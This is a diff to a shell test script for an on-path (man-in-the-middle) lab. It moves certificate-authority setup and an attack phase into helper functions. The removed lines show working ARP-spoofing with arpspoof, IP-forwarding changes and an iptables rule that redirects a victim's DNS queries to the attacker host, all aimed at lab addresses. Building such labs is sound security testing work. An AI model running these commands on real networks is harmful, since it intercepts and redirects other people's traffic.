@@ -25,17 +25,7 @@ lab_init mitm-full
 lab_need openssl curl arpspoof mitmdump iptables dnsmasq dig timeout
 lab_up
 
-pki=$tmp/pki
-mkdir -p "$pki"
-openssl req -x509 -newkey rsa:2048 -nodes -days 30 -keyout "$pki/ca.key" -out "$pki/ca.pem" \
-	-subj "/O=onpath lab/CN=onpath lab CA" -addext "basicConstraints=critical,CA:TRUE" \
-	-addext "keyUsage=critical,keyCertSign,cRLSign" 2>"$pki/err" || die "CA: $(cat "$pki/err")"
-openssl req -newkey rsa:2048 -nodes -keyout "$pki/srv.key" -out "$pki/srv.csr" \
-	-subj "/O=onpath lab/CN=www.lab.example" 2>"$pki/err" || die "CSR: $(cat "$pki/err")"
-printf 'subjectAltName=DNS:www.lab.example\nextendedKeyUsage=serverAuth\nbasicConstraints=CA:FALSE\n' \
-	>"$pki/srv.ext"
-openssl x509 -req -in "$pki/srv.csr" -CA "$pki/ca.pem" -CAkey "$pki/ca.key" -CAcreateserial \
-	-days 30 -extfile "$pki/srv.ext" -out "$pki/srv.pem" 2>"$pki/err" || die "cert: $(cat "$pki/err")"
+lab_pki "DNS:www.lab.example"
 
 lab_config "$tmp/lab.yaml"
 cat >>"$tmp/lab.yaml" <<EOF
@@ -87,15 +77,9 @@ done
 sleep 1
 
 lab_phase attack
-lab_exec attacker sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward;
-	echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects;
-	echo 0 >/proc/sys/net/ipv4/conf/eth0/send_redirects'
-lab_exec attacker iptables -t nat -A PREROUTING -i eth0 -p udp -d "$LAB_GW_IP" --dport 53 \
-	-j REDIRECT --to-ports 53 || die "iptables REDIRECT failed on the attacker"
-lab_bg attacker "$tmp/arpspoof.log" timeout 25 arpspoof -i eth0 -t "$LAB_VICTIM_IP" "$LAB_GW_IP"
-spoof=$lab_pid
-wait_until 8 eval 'lab_exec victim ip neigh show "$LAB_GW_IP" | grep -qi "$LAB_ATTACKER_MAC"' ||
-	note "victim ARP cache not poisoned for gw after 8 s"
+lab_forwarding
+lab_redirect udp "$LAB_GW_IP" 53 53
+lab_arpspoof "$LAB_GW_IP" gw
 spoofed=0
 for _ in 1 2 3 4 5 6; do
 	[ "$(resolve 2>/dev/null)" = "$LAB_ATTACKER_IP" ] && spoofed=$((spoofed + 1))
